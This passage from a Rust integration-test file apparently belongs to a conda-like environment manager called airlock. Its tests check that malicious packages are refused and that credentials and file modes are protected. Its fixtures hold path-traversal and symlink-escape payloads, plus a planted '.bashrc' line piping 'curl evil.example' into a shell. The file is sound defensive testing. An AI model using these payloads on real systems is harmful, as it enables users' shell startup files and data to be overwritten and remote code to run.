    lock_with_path(&s, &yml, &path);
    let lock_path = s.path("work/proj/pixi.lock");
    let install = |name: &str, force: bool| {
        let mut args = vec![
            "env",
            "install",
            "--lock",
            lock_path.to_str().unwrap(),
            "-n",
            name,
        ];
        if force {
            args.push("--force");
        }
        s.command()
            .args(&args)
            .env("PATH", &path)
            .env("PIP_RETRIES", "0")
            .output()
            .unwrap()
    };
    assert_success(&install("keep", false));
    // Nothing listens on the discard port of the loopback interface.
    let lock = std::fs::read_to_string(&lock_path).unwrap();
    std::fs::write(
        &lock_path,
        lock.replace(
            "./wheels/tinydep-1.0-py3-none-any.whl",
            "http://127.0.0.1:9/tinydep-1.0-py3-none-any.whl",
        ),
    )
    .unwrap();
    for (name, force) in [("other", false), ("keep", true)] {
        let out = install(name, force);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success(), "{stderr}");
        assert!(
            stderr.contains("airlock: error: installing the pip: section failed"),
            "{stderr}"
        );
        assert!(!stderr.contains("panicked"), "{stderr}");
    }
    assert!(!s.prefix("other").exists());
    assert!(installed(&s.prefix("keep")).contains(&"hello-2.0-0".to_owned()));
    assert!(leftovers(&s.envs_dir()).is_empty());
    let dirs: Vec<String> = std::fs::read_dir(s.envs_dir())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(dirs, vec!["keep"]);
}

/// What a file outside the environment looks like: contents, inode and mode.
#[derive(Debug, PartialEq)]
struct FileState {
    contents: String,
    inode: u64,
    mode: String,
}

fn file_state(path: &Path) -> FileState {
    use std::os::unix::fs::MetadataExt as _;
    let meta = std::fs::symlink_metadata(path)
        .unwrap_or_else(|e| panic!("{} is gone: {e}", path.display()));
    FileState {
        contents: String::from_utf8_lossy(&std::fs::read(path).unwrap()).into_owned(),
        inode: meta.ino(),
        mode: format!("{:o}", meta.mode()),
    }
}

/// A file a hostile package aims at, made before each attempt: 0640, known contents.
fn victim(path: &Path) -> FileState {
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    if !path.exists() {
        std::fs::write(path, "the user's own file\n").unwrap();
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o640)).unwrap();
    }
    file_state(path)
}

/// One hostile package of issue 22 and the file it aims at. The sandbox puts the prefix
/// (and its staging directory) and each cache entry four directories below the sandbox's
/// root: `data/airlock/envs/NAME`, `cache/airlock/pkgs/ENTRY`.
struct Attack {
    name: &'static str,
    /// The file outside (relative to the sandbox's root).
    victim: &'static str,
    /// The listed path the error must name.
    listed: String,
    package: PackageBuild,
}

fn attacks(root: &Path, format: testchannel::ArchiveFormat) -> Vec<Attack> {
    let evil = |files: Vec<PackageFile>| {
        files.into_iter().fold(
            PackageBuild::new("evil", "1.0").format(format),
            PackageBuild::file,
        )
    };
    let dotdot = "../../../../victim.txt".to_owned();
    let absolute = root.join("absolute-victim.txt").display().to_string();
    let through = "L/../../../../../home/.bashrc".to_owned();
    vec![
        // `L -> d1/.../d5` in the cache entry brings the source back into the entry, while in
        // the prefix `L` is first made a real directory: the destination is the sandbox's root.
        Attack {
            name: "symlink-and-dotdot",
            victim: "home/.bashrc",
            listed: through.clone(),
            package: evil(vec![
                PackageFile::data("d1/d2/d3/d4/d5/keep", "x\n"),
                PackageFile::symlink("L", "d1/d2/d3/d4/d5").unlisted(),
                PackageFile::data("home/.bashrc", "curl evil.example | sh\n").listed_as(&through),
            ]),
        },
        // A symbolic link the package lists, and a file below it: no `..` anywhere.
        Attack {
            name: "through-shipped-symlink",
            victim: "outside/victim.txt",
            listed: "share/out/victim.txt".to_owned(),
            package: evil(vec![
                PackageFile::symlink("share/out", &root.join("outside").display().to_string()),
                PackageFile::data("payload", "payload\n").listed_as("share/out/victim.txt"),
            ]),
        },
        Attack {
            name: "plain-dotdot",
            victim: "victim.txt",
            listed: dotdot.clone(),
            package: evil(vec![
                PackageFile::data("payload", "payload\n").listed_as(&dotdot),
            ]),
        },
        Attack {
            name: "absolute",
            victim: "absolute-victim.txt",
            listed: absolute.clone(),
            package: evil(vec![
                PackageFile::data("payload", "payload\n").listed_as(&absolute),
            ]),
        },
        Attack {
            name: "has-prefix-outside",
            victim: "victim.txt",
            listed: dotdot.clone(),
            package: evil(vec![
                PackageFile::data("payload", format!("{}\n", testchannel::PREFIX_PLACEHOLDER))
                    .with_prefix()
                    .listed_as(&dotdot),
            ]),
        },
        // The same through the older metadata only (`info/files`, `info/has_prefix`).
        Attack {
            name: "legacy-has-prefix-outside",
            victim: "victim.txt",
            listed: dotdot.clone(),
            package: evil(vec![
                PackageFile::data("payload", format!("{}\n", testchannel::PREFIX_PLACEHOLDER))
                    .with_prefix()
                    .listed_as(&dotdot),
            ])
            .legacy_metadata(),
        },
    ]
}

/// Issue 22, items 1 and 2: a package that lists a path outside its environment (through a
/// symbolic link and `..`, a shipped symbolic link, a plain `..`, an absolute path, prefix
/// replacement outside; `paths.json` or the older lists; `.conda` and `.tar.bz2`) is refused by
/// `env create`, `env install --lock` and `env update`, with an error naming the package and
/// the path (never a panic), before anything is linked: the file outside keeps its contents,
/// inode and mode, and no environment looks complete. Every case runs; the failures are
/// reported together.
#[test]
fn issue_22_a_package_never_reaches_outside_its_environment() {
    let mut problems: Vec<String> = Vec::new();
    for format in [
        testchannel::ArchiveFormat::Conda,
        testchannel::ArchiveFormat::TarBz2,
    ] {
        let names: Vec<&str> = attacks(Path::new("/x"), format)
            .iter()
            .map(|a| a.name)
            .collect();
        for name in names {
            let s = Sandbox::new();
            let root = s.path("");
            // Built against this sandbox's root (some paths in the attack are absolute).
            let attack = attacks(&root, format)
                .into_iter()
                .find(|a| a.name == name)
                .unwrap();
            std::fs::create_dir_all(root.join("outside")).unwrap();
            let channel = s.path("evil-channel");
            testchannel::build_channel(
                &channel,
                &[
                    attack.package.clone(),
                    PackageBuild::new("benign", "1.0").format(format),
                ],
            )
            .unwrap();
            let url = url::Url::from_directory_path(&channel).unwrap();
            let victim_path = root.join(attack.victim);
            let context = format!("{} ({format:?})", attack.name);
            let mut attempt = |what: &str, args: &[&str]| {
                let before = victim(&victim_path);
                let out = s.run(args);
                let err = String::from_utf8_lossy(&out.stderr).into_owned();
                let after = std::fs::symlink_metadata(&victim_path)
                    .ok()
                    .map(|_| file_state(&victim_path));
                if after.as_ref() != Some(&before) {
                    problems.push(format!(
                        "{context}, {what}: the file outside changed: {before:?} -> {after:?}"
                    ));
                    // Restored for the next command.
                    let _ = std::fs::remove_file(&victim_path);
                }
                if out.status.success() {
                    problems.push(format!("{context}, {what}: succeeded:\n{err}"));
                } else if err.contains("panicked") || out.status.code().is_none() {
                    problems.push(format!("{context}, {what}: crashed:\n{err}"));
                } else if !(err.contains("evil-1.0-0") && err.contains(&attack.listed)) {
                    problems.push(format!(
                        "{context}, {what}: the error names neither package nor path:\n{err}"
                    ));
                }
                if err.contains("corrupt") {
                    problems.push(format!(
                        "{context}, {what}: the cache check read the listed paths:\n{err}"
                    ));
                }
                if !leftovers(&s.envs_dir()).is_empty() {
                    problems.push(format!(
                        "{context}, {what}: left {:?}",
                        leftovers(&s.envs_dir())
                    ));
                }
            };

            attempt(
                "create",
                &["env", "create", "-n", "made", "-c", url.as_str(), "evil"],
            );
            let yml = s.write(
                "evil.yml",
                &format!("name: evil\nchannels:\n  - {url}\ndependencies:\n  - evil\n"),
            );
            let lock = s.path("work").join("evil.lock");
            s.ok(&[
                "env",
                "lock",
                "-f",
                yml.to_str().unwrap(),
                "-o",
                lock.to_str().unwrap(),
            ]);
            attempt(
                "install --lock",
                &[
                    "env",
                    "install",
                    "--lock",
                    lock.to_str().unwrap(),
                    "-n",
                    "locked",
                ],
            );
            s.ok(&["env", "create", "-n", "base", "-c", url.as_str(), "benign"]);
            let tree = tree_bytes(&s.prefix("base"));
            attempt(
                "update",
                &["env", "update", "-n", "base", "-c", url.as_str(), "evil"],
            );
            for env in ["made", "locked"] {
                if s.prefix(env).exists() {
                    problems.push(format!("{context}: the environment {env} was left"));
                }
            }
            if tree_bytes(&s.prefix("base")) != tree {
                problems.push(format!(
                    "{context}: the failed update changed the environment"
                ));
            }
        }
    }
    assert!(problems.is_empty(), "{}", problems.join("\n\n"));
}

/// Issue 22, item 1: a symbolic link already in the environment (shipped by a package
/// installed earlier, pointing outside) is not a way out for a later package that lists a
/// path below it: the update is refused by the check of the environment's parents (the
/// listed path alone is harmless), and the file outside is untouched.
#[test]
fn issue_22_an_update_never_writes_through_a_symbolic_link_in_the_environment() {
    let s = Sandbox::new();
    let outside = s.path("outside");
    let victim_path = outside.join("victim.txt");
    let before = victim(&victim_path);
    let channel = s.path("channel");
    testchannel::build_channel(
        &channel,
        &[
            PackageBuild::new("linker", "1.0").file(PackageFile::symlink(
                "share/x",
                &outside.display().to_string(),
            )),
            PackageBuild::new("writer", "1.0")
                .file(PackageFile::data("share/x/victim.txt", "payload\n")),
        ],
    )
    .unwrap();
    let url = url::Url::from_directory_path(&channel).unwrap();
    s.ok(&["env", "create", "-n", "e", "-c", url.as_str(), "linker"]);
    let tree = tree_bytes(&s.prefix("e"));
    let err = s.fails(&["env", "update", "-n", "e", "-c", url.as_str(), "writer"]);
    assert_eq!(file_state(&victim_path), before, "{err}");
    assert!(
        err.contains("writer-1.0-0") && err.contains("share/x/victim.txt"),
        "{err}"
    );
    assert!(err.contains("symbolic link"), "{err}");
    assert!(tree_bytes(&s.prefix("e")) == tree);
    assert!(leftovers(&s.envs_dir()).is_empty());
}

/// Rewrites the modes of files in a package archive (rattler's archive writer keeps only 0644
/// and 0755): `modes` maps a path in the package to its mode. Python's `tarfile` and `zipfile`
/// with the `zstd` tool; returns how many entries were changed.
fn set_archive_modes(archive: &Path, modes: &[(&str, u32)]) -> usize {
    const SCRIPT: &str = r#"
import bz2, io, subprocess, sys, tarfile, zipfile
path = sys.argv[1]
modes = {k: int(v, 8) for k, v in (a.split("=") for a in sys.argv[2:])}
changed = 0
def fix(data):
    global changed
    src = tarfile.open(fileobj=io.BytesIO(data), mode="r:")
    out = io.BytesIO()
    dst = tarfile.open(fileobj=out, mode="w:", format=tarfile.PAX_FORMAT)
    for m in src.getmembers():
        f = src.extractfile(m) if m.isfile() else None
        name = m.name[2:] if m.name.startswith("./") else m.name
        if name in modes:
            m.mode = modes[name]
            changed += 1
        dst.addfile(m, f)
    dst.close()
    return out.getvalue()
if path.endswith(".tar.bz2"):
    with open(path, "rb") as f:
        data = bz2.decompress(f.read())
    with open(path, "wb") as f:
        f.write(bz2.compress(fix(data)))
else:
    with zipfile.ZipFile(path) as z:
        items = [(i, z.read(i.filename)) for i in z.infolist()]
    with zipfile.ZipFile(path, "w") as z:
        for info, data in items:
            if info.filename.startswith("pkg-") and info.filename.endswith(".tar.zst"):
                run = lambda args, data: subprocess.run(args, input=data, capture_output=True, check=True).stdout
                data = run(["zstd", "-q", "-c"], fix(run(["zstd", "-d", "-q", "-c"], data)))
            z.writestr(info, data)
print(changed)
"#;
    let out = Command::new("python3")
        .arg("-c")
        .arg(SCRIPT)
        .arg(archive)
        .args(modes.iter().map(|(p, m)| format!("{p}={m:o}")))
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim().parse().unwrap()
}

/// Issue 22, item 3: a package's 0777 and 0666 files lose group and other write, in the
/// user's cache and in the environment (new environment and update; linked and
/// prefix-replaced; both archive formats).
#[test]
fn issue_22_modes_follow_the_umask() {
    use std::os::unix::fs::PermissionsExt as _;
    let mut problems = Vec::new();
    for format in [
        testchannel::ArchiveFormat::Conda,
        testchannel::ArchiveFormat::TarBz2,
    ] {
        let s = Sandbox::new();
        let channel = s.path("wide-channel");
        let wide = PackageBuild::new("wide", "1.0")
            .format(format)
            .file(PackageFile::data("bin/wide-tool", "#!/bin/sh\n"))
            .file(PackageFile::data("share/wide/data", "data\n"))
            .file(
                PackageFile::data(
                    "share/wide/prefixed",
                    format!("{}\n", testchannel::PREFIX_PLACEHOLDER),
                )
                .with_prefix(),
            );
        let archive = wide.write_into(&channel).unwrap();
        let modes = [
            ("bin/wide-tool", 0o777),
            ("share/wide/data", 0o666),
            ("share/wide/prefixed", 0o666),
        ];
        assert_eq!(set_archive_modes(&archive, &modes), 3);
        // Indexes the rewritten archive (its new sha256) with the benign package.
        testchannel::build_channel(&channel, &[PackageBuild::new("benign", "1.0")]).unwrap();
        let url = url::Url::from_directory_path(&channel).unwrap();
        let mode = |path: &Path| std::fs::metadata(path).unwrap().permissions().mode() & 0o7777;
        s.ok(&["env", "create", "-n", "w", "-c", url.as_str(), "wide"]);
        s.ok(&["env", "create", "-n", "u", "-c", url.as_str(), "benign"]);
        s.ok(&["env", "update", "-n", "u", "-c", url.as_str(), "wide"]);
        let entry = cache_entry(&s, "wide-1.0-0");
        for (file, _) in modes {
            for path in [
                entry.join(file),
                s.prefix("w").join(file),
                s.prefix("u").join(file),
            ] {
                let m = mode(&path);
                if m & 0o022 != 0 {
                    problems.push(format!("{format:?}: {} is {m:o}", path.display()));
                }
            }
        }
        let tool = mode(&s.prefix("w").join("bin/wide-tool"));
        if tool & 0o700 != 0o700 {
            problems.push(format!(
                "{format:?}: the tool lost its owner bits: {tool:o}"
            ));
        }
    }
    assert!(problems.is_empty(), "{}", problems.join("\n"));
}

/// Issue 22, item 5: an update killed while it swaps the new environment in leaves the old
/// or the new one, never neither: after the exchange (the new one), and on the two-rename
/// path between the renames (the old one, put back by the next command).
#[test]
fn issue_22_an_update_killed_at_the_swap_never_loses_the_environment() {
    use std::os::unix::process::ExitStatusExt as _;
    let s = Sandbox::new();
    s.ok(&["env", "create", "-n", "up", "hello=1.0"]);
    let prefix = s.prefix("up");

    // What a kill between the two renames of an update leaves, made by hand: the old
    // environment renamed aside, the finished new one under its staging name, nothing at
    // the environment's own name. The next command puts the old one back.
    let aside = s.envs_dir().join(".up.airlock-staging-old-999999999");
    std::fs::rename(&prefix, &aside).unwrap();
    let finished = s.envs_dir().join(".up.airlock-staging-999999999");
    copy_dir(&aside, &finished);
    s.ok(&["env", "list"]);
    assert!(
        prefix.join("conda-meta").is_dir(),
        "the environment was lost after an interrupted swap"
    );
    assert!(installed(&prefix).contains(&"hello-1.0-0".to_owned()));
    assert!(
        leftovers(&s.envs_dir()).is_empty(),
        "{:?}",
        leftovers(&s.envs_dir())
    );

    let killed = |at: &str, spec: &str| {
        let out = s
            .command()
            .args(["env", "update", "-n", "up", spec])
            .env("AIRLOCK_TEST_KILL_AT", at)
            .output()
            .unwrap();
        assert_eq!(
            out.status.signal(),
            Some(9),
            "not killed at {at}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    };

    killed("exchange", "hello=2.0");
    assert!(installed(&prefix).contains(&"hello-2.0-0".to_owned()));
    s.ok(&["env", "list"]);
    assert!(installed(&prefix).contains(&"hello-2.0-0".to_owned()));
    assert!(
        leftovers(&s.envs_dir()).is_empty(),
        "{:?}",
        leftovers(&s.envs_dir())
    );

    killed("rename", "hello=1.0");
    assert!(
        !prefix.exists(),
        "the kill did not land between the renames"
    );
    let out = s.run(&["env", "list"]);
    assert!(out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("putting the old one back"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(installed(&prefix).contains(&"hello-2.0-0".to_owned()));
    assert!(
        leftovers(&s.envs_dir()).is_empty(),
        "{:?}",
        leftovers(&s.envs_dir())
    );
    s.ok(&["env", "run", "-n", "up", "hello"]);
}

/// A channel served over HTTP on 127.0.0.1 that wants basic authentication (`user`,
/// `password`) or the conda token `token` (`/t/TOKEN/...`): 401 otherwise, 404 for what is
/// not there. One thread, one request per connection. Returns the base URL (no credentials).
fn serve_channel_with_auth(dir: PathBuf, user: &str, password: &str, token: &str) -> String {
    use std::io::{BufRead as _, BufReader, Write as _};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let expected = format!("Basic {}", base64(format!("{user}:{password}").as_bytes()));
    let token_prefix = format!("/t/{token}");
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut request = String::new();
            if reader.read_line(&mut request).is_err() {
                continue;
            }
            let mut authorized = false;
            loop {
                let mut line = String::new();
                if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
                    break;
                }
                if let Some((name, value)) = line.split_once(':')
                    && name.eq_ignore_ascii_case("authorization")
                    && value.trim() == expected
                {
                    authorized = true;
                }
            }
            let mut parts = request.split_whitespace();
            let (method, path) = (parts.next().unwrap_or(""), parts.next().unwrap_or("/"));
            let path = match path.strip_prefix(&token_prefix) {
                Some(rest) => {
                    authorized = true;
                    rest
                }
                None => path,
            };
            let (status, body) = if authorized {
                match std::fs::read(dir.join(path.trim_start_matches('/'))) {
                    Ok(bytes) if !path.ends_with('/') => ("200 OK", bytes),
                    _ => ("404 Not Found", Vec::new()),
                }
            } else {
                ("401 Unauthorized", Vec::new())
            };
            let head = format!(
                "HTTP/1.1 {status}\r\nContent-Length: {}\r\nConnection: close\r\nWWW-Authenticate: Basic realm=\"test\"\r\n\r\n",
                body.len()
            );
            let _ = stream.write_all(head.as_bytes());
            if method != "HEAD" {
                let _ = stream.write_all(&body);
            }
        }
    });
    format!("http://127.0.0.1:{port}")
}

fn base64(bytes: &[u8]) -> String {
    const TABLE: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let b = [
            chunk[0],
            chunk.get(1).copied().unwrap_or(0),
            chunk.get(2).copied().unwrap_or(0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(TABLE[((n >> (18 - 6 * i)) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// Every file under `dir` (recursively, not following symbolic links) whose bytes contain
/// `secret`.
fn files_containing(dir: &Path, secret: &str) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(dir) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for entry in entries {
            let path = entry.unwrap().path();
            let meta = std::fs::symlink_metadata(&path).unwrap();
            if meta.is_dir() {
                stack.push(path);
            } else if meta.is_file()
                && std::fs::read(&path)
                    .unwrap()
                    .windows(secret.len())
                    .any(|w| w == secret.as_bytes())
            {
                found.push(path);
            }
        }
    }
    found
}

/// Issue 22, item 6: a channel URL with a user and password, or a `/t/TOKEN/` segment, works
/// (the credentials reach the server), and the secret is in no file airlock writes (lock,
/// `conda-meta`, history, repodata and package caches, exports) and in nothing it prints,
/// errors included. A lock install takes its credentials from `RATTLER_AUTH_FILE`.
#[test]
fn issue_22_credentials_in_channel_urls_are_never_written() {
    let s = Sandbox::new();
    let (password, token) = ("pa55-SECRET-word", "TOKEN-SECRET-42");
    let served = s.path("served");
    testchannel::build_channel(&served.join("chan"), &testchannel::demo_packages()).unwrap();
    // The channel's own files hold no secret: everything found later was written by airlock.
    let base = serve_channel_with_auth(served, "alice", password, token);
    let with_password = base.replacen("http://", &format!("http://alice:{password}@"), 1);
    let with_password = format!("{with_password}/chan");
    let with_token = format!("{base}/t/{token}/chan");
    let mut printed = String::new();
    let mut run = |args: &[&str], envs: &[(&str, &Path)], ok: bool| {
        let mut cmd = s.command();
        cmd.args(args);
        for (k, v) in envs {
            cmd.env(k, v);
        }
        let out = cmd.output().unwrap();
        let (stdout, stderr) = (
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        );
        assert_eq!(out.status.success(), ok, "{args:?}:\n{stdout}\n{stderr}");
        printed.push_str(&stdout);
        printed.push_str(&stderr);
        stdout
    };
    run(
        &["env", "create", "-n", "pw", "-c", &with_password, "hello"],
        &[],
        true,
    );
    run(
        &["env", "create", "-n", "tok", "-c", &with_token, "hello=1.0"],
        &[],
        true,
    );
    let yml = s.write(
        "auth.yml",
        &format!("name: auth\nchannels:\n  - {with_password}\ndependencies:\n  - hello\n"),
    );
    let lock = s.path("work").join("auth.lock");
    run(
        &[
            "env",
            "lock",
            "-f",
            yml.to_str().unwrap(),
            "-o",
            lock.to_str().unwrap(),
        ],
        &[],
        true,
    );
    for format in ["explicit", "lock", "yaml"] {
        let out = run(
            &["env", "export", "-n", "pw", "--format", format],
            &[],
            true,
        );
        assert!(out.contains("hello"), "{out}");
    }
    // From the lock: the URL in it has no credentials, the authentication file has them.
    let auth_file = s.path("config").join("rattler-auth.json");
    std::fs::write(
        &auth_file,
        format!(
            r#"{{"127.0.0.1": {{"BasicHTTP": {{"username": "alice", "password": "{password}"}}}}}}"#
        ),
    )
    .unwrap();
    run(
        &[
            "env",
            "install",
            "--lock",
            lock.to_str().unwrap(),
            "-n",
            "fromlock",
        ],
        &[("RATTLER_AUTH_FILE", &auth_file)],
        true,
    );
    // A lock written elsewhere with the credentials in its URLs: they are used, not copied.
    let dirty_lock = s.path("work").join("dirty.lock");
    std::fs::write(
        &dirty_lock,
        std::fs::read_to_string(&lock)
            .unwrap()
            .replace(&base, with_password.trim_end_matches("/chan")),
    )
    .unwrap();
    assert!(
        std::fs::read_to_string(&dirty_lock)
            .unwrap()
            .contains(password)
    );
    run(
        &[
            "env",
            "install",
            "--lock",
            dirty_lock.to_str().unwrap(),
            "-n",
            "fromdirty",
        ],
        &[],
        true,
    );
    // Errors: a channel that is not there, a package that is not there.
    run(
        &[
            "env",
            "create",
            "-n",
            "x",
            "-c",
            &format!("{with_password}-missing"),
            "hello",
        ],
        &[],
        false,
    );
    run(
        &["env", "create", "-n", "y", "-c", &with_password, "nothere"],
        &[],
        false,
    );
    run(
        &["env", "update", "-n", "pw", "-c", &with_token, "nothere"],
        &[],
        false,
    );
    // A package the index lists but the server does not have: the download fails.
    std::fs::remove_file(s.path("served/chan/noarch/greeting-data-1.0-0.conda")).unwrap();
    std::fs::remove_dir_all(s.pkgs_dir()).unwrap();
    for url in [&with_token, &with_password] {
        run(
            &["env", "create", "-n", "z", "-c", url, "greeting-data=1.0"],
            &[],
            false,
        );
    }

    assert!(installed(&s.prefix("pw")).contains(&"hello-2.0-0".to_owned()));
    assert!(installed(&s.prefix("tok")).contains(&"hello-1.0-0".to_owned()));
    assert!(installed(&s.prefix("fromlock")).contains(&"hello-2.0-0".to_owned()));
    assert!(installed(&s.prefix("fromdirty")).contains(&"hello-2.0-0".to_owned()));
    // The authentication file and the yml are the user's own; everything else is searched.
    std::fs::remove_file(&auth_file).unwrap();
    std::fs::remove_file(&yml).unwrap();
    std::fs::remove_file(&dirty_lock).unwrap();
    for secret in [password, token] {
        let files = files_containing(&s.path(""), secret);
        assert!(files.is_empty(), "{secret} written to {files:#?}");
        assert!(!printed.contains(secret), "{secret} printed:\n{printed}");
    }
}

/// Issue 22, item 7: staging names beside an environment cannot be guessed. Another user of a
/// shared directory who creates the names a run would use (`.NAME.airlock-staging-PID@HOST`
/// for the next few thousand process ids) does not block `env create`; what they made is
/// left alone.
#[test]
fn issue_22_staging_names_cannot_be_taken_first() {
    let s = Sandbox::new();
    let host = std::fs::read_to_string("/proc/sys/kernel/hostname").unwrap();
    let host: String = host
        .trim()
        .chars()
        .filter(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_'))
        .collect();
    let last: u32 = std::fs::read_to_string("/proc/sys/kernel/ns_last_pid")
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    std::fs::create_dir_all(s.envs_dir()).unwrap();
    let squatted: Vec<PathBuf> = (last + 1..last + 3000)
        .map(|pid| {
            let path = s
                .envs_dir()
                .join(format!(".taken.airlock-staging-{pid}@{host}"));
            std::fs::write(&path, "someone else's\n").unwrap();
            path
        })
        .collect();
    s.ok(&["env", "create", "-n", "taken", "hello"]);
    assert!(installed(&s.prefix("taken")).contains(&"hello-2.0-0".to_owned()));
    assert!(
        squatted.iter().all(|p| p.is_file()),
        "another user's files were removed"
    );
}

/// Issue 22, item 7: `env --help` says which package scripts run and what a `pip:` section
/// can do.
#[test]
fn issue_22_env_help_says_what_runs() {
    let s = Sandbox::new();
    let help = s.ok(&["env", "--help"]);
    for needed in [
        "post-link",
        "never run",
        "activate.d",
        "env shell-hook",
        "pip:",
        "index",
        "build scripts",
    ] {
        assert!(help.contains(needed), "`{needed}` missing from:\n{help}");
    }
}

/// Issue 22, item 4: a shared cache layer is trusted only as far as its writers are. A layer
/// directory, or an entry in it, that group or others can write (a group member could replace
/// a file and rewrite the entry's own `paths.json`) is not linked from: a warning names it and
/// its mode, and the package is fetched into the user's own cache. The layer is not changed.
#[test]
fn issue_22_a_shared_cache_layer_others_can_write_is_not_trusted() {
    use std::os::unix::fs::PermissionsExt as _;
    let s = Sandbox::new();
    s.ok(&["env", "create", "-n", "seed", "hello"]);
    let shared = cache_as_layer(&s, "shared-pkgs");
    let rel = "share/greeting-data/greeting.txt";
    let shared_file = std::fs::read_dir(&shared)
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| {
            let name = p.file_name().unwrap().to_string_lossy().into_owned();
            p.is_dir() && name.starts_with("greeting-data-2.0-0-")
        })
        .unwrap()
        .join(rel);
    let chmod = |path: &Path, mode: u32| {
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
    };
    let create = |name: &str| {
        let out = s.run(&["env", "create", "-n", name, "hello"]);
        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
        assert!(out.status.success(), "{stderr}");
        stderr
    };

    // Trusted as it is (0755 directories, 0644 files): linked from.
    create("trusted");
    assert_eq!(inode(&s.prefix("trusted").join(rel)), inode(&shared_file));

    // The layer directory is group-writable.
    chmod(&shared, 0o775);
    let stderr = create("group-dir");
    assert!(
        stderr.contains(&shared.display().to_string()) && stderr.contains("775"),
        "{stderr}"
    );
    assert_ne!(inode(&s.prefix("group-dir").join(rel)), inode(&shared_file));
    chmod(&shared, 0o755);
    // What was fetched into the user's own cache would be found there first.
    std::fs::remove_dir_all(s.pkgs_dir()).unwrap();

    // A file in an entry is group-writable.
    chmod(&shared_file, 0o664);
    let stderr = create("group-file");
    assert!(
        stderr.contains(&shared_file.display().to_string()) && stderr.contains("664"),
        "{stderr}"
    );
    assert_ne!(
        inode(&s.prefix("group-file").join(rel)),
        inode(&shared_file)
    );
    assert_eq!(
        std::fs::metadata(&shared_file)
            .unwrap()
            .permissions()
            .mode()
            & 0o7777,
        0o664,
        "the shared layer was changed"
    );
}

/// Runs `airlock` as another user (`runuser`), with the sandbox's isolated environment.
fn run_as(s: &Sandbox, user: &str, args: &[&str]) -> Output {
    let alias = url::Url::from_directory_path(channels_root()).unwrap();
    let mut cmd = Command::new("runuser");
    cmd.args(["-u", user, "--", "/usr/bin/env", "-i"])
        .arg(format!(
            "PATH={}",
            std::env::var("PATH").unwrap_or_default()
        ))
        .arg(format!("HOME={}", s.home().display()))
        .arg(format!("XDG_DATA_HOME={}", s.path("data").display()))
        .arg(format!("XDG_CACHE_HOME={}", s.path("cache").display()))
        .arg(format!("XDG_CONFIG_HOME={}", s.path("config").display()))
        .arg(format!("XDG_STATE_HOME={}", s.path("state").display()))
        .arg(format!("AIRLOCK_CHANNEL_ALIAS={alias}"))
        .arg(env!("CARGO_BIN_EXE_airlock"))
        .args(args)
        .current_dir("/");
    cmd.output().unwrap()
}

/// Issue 22, items 3 and 4 with real users: `nobody` makes an environment from a package
/// with 0666 and 0777 files, partly linked from a shared cache layer that root owns. The
/// kernel refuses hard links into root's layer (`fs.protected_hardlinks`), and airlock says
/// the files are copied, once. Another user (`daemon`) then cannot change a file of nobody's
/// cache entry or environment.
#[test]
fn issue_22_another_user_cannot_change_a_users_environment_or_cache() {
    use std::os::unix::fs::PermissionsExt as _;
    if !nix::unistd::geteuid().is_root() {
        eprintln!("skipped: needs root to run airlock as two other users");
        return;
    }
    let s = Sandbox::new();
    let channel = s.path("channel");
    let wide = PackageBuild::new("wide", "1.0")
        .file(PackageFile::data("bin/wide-tool", "#!/bin/sh\n"))
        .file(PackageFile::data("share/wide/data", "data\n"));
    let archive = wide.write_into(&channel).unwrap();
    let modes = [("bin/wide-tool", 0o777), ("share/wide/data", 0o666)];
    assert_eq!(set_archive_modes(&archive, &modes), 2);
    testchannel::build_channel(&channel, &[PackageBuild::new("benign", "1.0")]).unwrap();
    let url = url::Url::from_directory_path(&channel).unwrap();
    // Root's shared layer, with benign in it.
    s.ok(&["env", "create", "-n", "seed", "-c", url.as_str(), "benign"]);
    let shared = cache_as_layer(&s, "shared-pkgs");
    std::fs::remove_dir_all(s.prefix("seed")).unwrap();
    // Everything else in the sandbox is nobody's.
    std::fs::set_permissions(s.path(""), std::fs::Permissions::from_mode(0o755)).unwrap();
    for sub in [
        "home", "data", "cache", "config", "state", "work", "channel",
    ] {
        let status = Command::new("chown")
            .args(["-R", "nobody:nogroup"])
            .arg(s.path(sub))
            .status()
            .unwrap();
        assert!(status.success());
    }

    let out = run_as(
        &s,
        "nobody",
        &[
            "env",
            "create",
            "-n",
            "mine",
            "-c",
            url.as_str(),
            "wide",
            "benign",
        ],
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert_eq!(
        stderr.matches("fs.protected_hardlinks").count(),
        1,
        "the copies from root's layer are said once: {stderr}"
    );
    assert!(stderr.contains(&shared.display().to_string()), "{stderr}");

    let entry = cache_entry(&s, "wide-1.0-0");
    for (file, _) in modes {
